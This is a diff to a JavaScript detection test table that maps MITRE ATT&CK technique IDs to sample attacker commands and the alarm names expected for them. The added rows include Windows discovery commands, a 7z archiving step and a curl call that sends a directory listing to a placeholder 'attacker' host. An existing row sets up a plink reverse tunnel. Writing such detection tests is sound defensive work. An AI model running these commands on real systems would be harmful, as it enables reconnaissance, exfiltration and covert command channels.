@@ -233,6 +233,16 @@ test.each([
   ['{ attack_id: T1082, name: x }', 'uname -a', 'linux', 'disc-uname'],
   ['{ attack_id: T1082, name: x }', 'systeminfo', 'windows', 'disc-systeminfo'],
   ['{ attack_id: T1083, name: x }', 'find /home', 'linux', 'disc-find'],
+  [
+    '{ attack_id: T1083, name: File and Directory Discovery }',
+    'curl "http://attacker/?c=ls+-lsahR"',
+    'linux',
+    'disc-ls-recursive',
+  ],
+  ['{ attack_id: T1016, name: x }', 'arp -a', 'windows', 'disc-arp'],
+  ['{ attack_id: T1007, name: x }', 'net start', 'windows', 'disc-net-start'],
+  ['{ attack_id: T1087.002, name: x }', 'net.exe user /domain', 'windows', 'disc-net-user-domain'],
+  ['{ attack_id: T1560.001, name: x }', '7z a x.7z', 'windows', 'coll-archive-7z'],
   ['{ attack_id: T1018, name: x }', 'nslookup fileserver', 'windows', 'disc-nslookup'],
   ['{ attack_id: T1572, name: x }', 'plink.exe -R 1:2:3', 'windows', 'c2-plink'],
 ])('of alarms of %s, %s on %s is told by what shows it', (technique, command, platform, alarm) => {
